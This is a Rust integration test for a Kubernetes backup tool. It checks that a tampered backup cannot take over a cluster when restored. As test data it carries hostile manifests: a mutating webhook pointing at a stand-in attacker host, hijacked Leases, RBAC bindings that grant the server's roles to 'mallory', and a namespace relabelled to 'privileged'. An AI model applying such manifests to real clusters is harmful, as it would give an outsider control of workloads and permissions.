//! A planted archive cannot use the restore identity to take the cluster. With the chart's
//! default restore grants, a backup whose tarball was replaced in the bucket tries, under
//! `existingResourcePolicy: update`, to install a mutating webhook, take a controller's Lease,
//! bind the server's own roles to a stranger, relabel a namespace to `privileged`, and rewrite
//! an existing ConfigMap: every one ends as an item error, nothing created or changed. Then,
//! with bindings named in the chart (`rbac.restore.resources`), a binding to a role the server
//! holds is still refused while an ordinary binding is restored.
//! (`tests/integration/rbac.rs` asks `kubectl auth can-i` for each of these grants.)

use crate::backup_support;
use crate::restore_support;
use crate::server_support;

use std::time::Duration;

use backup_support::*;
use restore_support::*;
use serde_json::{Value, json};
use server_support::{NS, World};
use veloxide::api::RestorePhase;

const RBAC: &str = "rbac.authorization.k8s.io";

fn binding(kind: &str, ns: Option<&str>, name: &str, role: &str) -> Value {
    let mut metadata = json!({"name": name});
    if let Some(ns) = ns {
        metadata["namespace"] = json!(ns);
    }
    json!({"apiVersion": format!("{RBAC}/v1"), "kind": kind, "metadata": metadata,
        "roleRef": {"apiGroup": RBAC, "kind": "ClusterRole", "name": role},
        "subjects": [{"apiGroup": RBAC, "kind": "User", "name": "mallory"}]})
}

fn lease(ns: &str, name: &str) -> Value {
    json!({"apiVersion": "coordination.k8s.io/v1", "kind": "Lease",
        "metadata": {"name": name, "namespace": ns},
        "spec": {"holderIdentity": "mallory", "leaseDurationSeconds": 3600}})
}

/// A backup named `backup` of namespace `app` in location `plain`, its tarball replaced.
async fn planted(world: &World, backup: &str, entries: &[(String, Vec<u8>)]) {
    backed_up(
        world,
        backup,
        json!({"includedNamespaces": ["app"], "storageLocation": "plain"}),
        Duration::from_secs(60),
    )
    .await;
    plant_archive(world, "plain", backup, crafted_archive(entries)).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_planted_archive_cannot_take_the_cluster() {
    let world = World::start().await;
    create(
        &world,
        json!({"apiVersion": "v1", "kind": "Namespace",
        "metadata": {"name": "app", "labels": {"pod-security.kubernetes.io/enforce": "restricted"}}}),
    )
    .await;
    create(
        &world,
        json!({"apiVersion": "v1", "kind": "ConfigMap",
        "metadata": {"name": "settings", "namespace": "app"}, "data": {"mode": "safe"}}),
    )
    .await;
    let _server = serve_plain_location(&world, "plain").await;
    let webhook = json!({"apiVersion": "admissionregistration.k8s.io/v1",
        "kind": "MutatingWebhookConfiguration", "metadata": {"name": "takeover"},
        "webhooks": [{"name": "takeover.example.com", "admissionReviewVersions": ["v1"],
            "sideEffects": "None", "clientConfig": {"url": "https://mallory.example.com/mutate"},
            "rules": [{"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"],
                       "resources": ["pods"]}]}]});
    planted(
        &world,
        "takeover",
        &[
            entry(
                "mutatingwebhookconfigurations.admissionregistration.k8s.io",
                None,
                &webhook,
            ),
            entry(
                "leases.coordination.k8s.io",
                Some("kube-system"),
                &lease("kube-system", "kube-controller-manager"),
            ),
            entry(
                "leases.coordination.k8s.io",
                Some(NS),
                &lease(NS, "veloxide-leader"),
            ),
            entry(
                &format!("rolebindings.{RBAC}"),
                Some("app"),
                &binding("RoleBinding", Some("app"), "read-all", "veloxide-backup"),
            ),
            entry(
                &format!("clusterrolebindings.{RBAC}"),
                None,
                &binding("ClusterRoleBinding", None, "write-all", "veloxide-restore"),
            ),
            entry(
                "namespaces",
                None,
                &json!({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "app",
                    "labels": {"pod-security.kubernetes.io/enforce": "privileged"}}}),
            ),
            entry(
                "configmaps",
                Some("app"),
                &json!({"apiVersion": "v1", "kind": "ConfigMap",
                    "metadata": {"name": "settings", "namespace": "app"},
                    "data": {"mode": "compromised"}}),
            ),
        ],
    )
    .await;
    create_restore(
        &world,
        "r-takeover",
        json!({"backupName": "takeover", "existingResourcePolicy": "update"}),
    )
    .await;
    let restore = wait_restore_ended(&world, "r-takeover").await;
    let results = restore_results(&world, "plain", "r-takeover").to_string();
    let mut failures = Vec::new();
    let mut check = |ok: bool, what: String| {
        if !ok {
            failures.push(what);
        }
    };
    check(
        restore.phase() == RestorePhase::PartiallyFailed
            && restore.status.as_ref().and_then(|s| s.errors) == Some(7),
        format!(
            "seven item errors: {}",
            serde_json::to_string(&restore.status).unwrap()
        ),
    );
    let dynamic = |api_version: &str, plural: &str| {
        let (group, version) = api_version.split_once('/').unwrap();
        kube::api::ApiResource {
            group: group.into(),
            version: version.into(),
            api_version: api_version.into(),
            kind: String::new(),
            plural: plural.into(),
        }
    };
    let webhooks: kube::Api<kube::api::DynamicObject> = kube::Api::all_with(
        world.client.clone(),
        &dynamic(
            "admissionregistration.k8s.io/v1",
            "mutatingwebhookconfigurations",
        ),
    );
    check(
        webhooks.get_opt("takeover").await.unwrap().is_none(),
        "no webhook configuration is created".into(),
    );
    let kcm = get(
        &world,
        "coordination.k8s.io/v1",
        "leases",
        "kube-system",
        "kube-controller-manager",
    )
    .await;
    check(
        kcm.as_ref()
            .is_none_or(|l| l["spec"]["holderIdentity"] != "mallory"),
        format!("the controller manager's Lease is not taken: {kcm:?}"),
    );
    check(
        get(
            &world,
            "coordination.k8s.io/v1",
            "leases",
            NS,
            "veloxide-leader",
        )
        .await
        .is_none(),
        "no Lease is created".into(),
    );
    check(
        get(
            &world,
            &format!("{RBAC}/v1"),
            "rolebindings",
            "app",
            "read-all",
        )
        .await
        .is_none(),
        "no RoleBinding is created".into(),
    );
    let crbs: kube::Api<k8s_openapi::api::rbac::v1::ClusterRoleBinding> =
        kube::Api::all(world.client.clone());
    check(
        crbs.get_opt("write-all").await.unwrap().is_none(),
        "no ClusterRoleBinding is created".into(),
    );
    let namespaces: kube::Api<k8s_openapi::api::core::v1::Namespace> =
        kube::Api::all(world.client.clone());
    let app = namespaces.get("app").await.unwrap();
    let level = app
        .metadata
        .labels
        .unwrap_or_default()
        .get("pod-security.kubernetes.io/enforce")
        .cloned();
    check(
        level.as_deref() == Some("restricted"),
        format!("the namespace keeps its pod-security level: {level:?}"),
    );
    let settings = get(&world, "v1", "configmaps", "app", "settings")
        .await
        .unwrap();
    check(
        settings["data"]["mode"] == "safe",
        format!("the existing ConfigMap is unchanged: {}", settings["data"]),
    );
    check(
        results.contains("rbac.restore.resources")
            && results.contains("rbac.restore.existingResourcePolicyUpdate"),
        format!("the item errors name the chart values: {results}"),
    );

    // Bindings named in the chart: ordinary ones are restored, the server's roles never.
    let opt_in = "rbac.restore.resources.rbac\\.authorization\\.k8s\\.io={clusterroles,roles,rolebindings,clusterrolebindings}";
    let rbac = e2e::manifests::chart_rbac(
        NS,
        &[
            "rbac.secretsScope=cluster",
            server_support::RESTORE_WIDGETS,
            opt_in,
        ],
    )
    .unwrap();
    e2e::manifests::apply(&world.client, &rbac).await.unwrap();
    create(
        &world,
        json!({"apiVersion": format!("{RBAC}/v1"), "kind": "ClusterRole",
        "metadata": {"name": "app-reader"},
        "rules": [{"apiGroups": [""], "resources": ["configmaps"], "verbs": ["get"]}]}),
    )
    .await;
    planted(
        &world,
        "bindings",
        &[
            entry(
                &format!("rolebindings.{RBAC}"),
                Some("app"),
                &binding("RoleBinding", Some("app"), "read-all", "veloxide-backup"),
            ),
            entry(
                &format!("rolebindings.{RBAC}"),
                Some("app"),
                &binding("RoleBinding", Some("app"), "readers", "app-reader"),
            ),
            entry(
                &format!("clusterrolebindings.{RBAC}"),
                None,
                &binding("ClusterRoleBinding", None, "write-all", "veloxide-restore"),
            ),
        ],
    )
    .await;
    create_restore(&world, "r-bindings", json!({"backupName": "bindings"})).await;
    let restore = wait_restore_ended(&world, "r-bindings").await;
    let results = restore_results(&world, "plain", "r-bindings").to_string();
    check(
        restore.status.as_ref().and_then(|s| s.errors) == Some(2)
            && results.contains("which the server's own identity holds"),
        format!("two bindings refused: {results}"),
    );
    check(
        get(
            &world,
            &format!("{RBAC}/v1"),
            "rolebindings",
            "app",
            "readers",
        )
        .await
        .is_some(),
        format!("an ordinary binding is restored once the chart names bindings: {results}"),
    );
    check(
        get(
            &world,
            &format!("{RBAC}/v1"),
            "rolebindings",
            "app",
            "read-all",
        )
        .await
        .is_none()
            && crbs.get_opt("write-all").await.unwrap().is_none(),
        "no binding to the server's own roles".into(),
    );
    assert!(
        failures.is_empty(),
        "{} checks failed:\n  {}",
        failures.len(),
        failures.join("\n  ")
    );
}
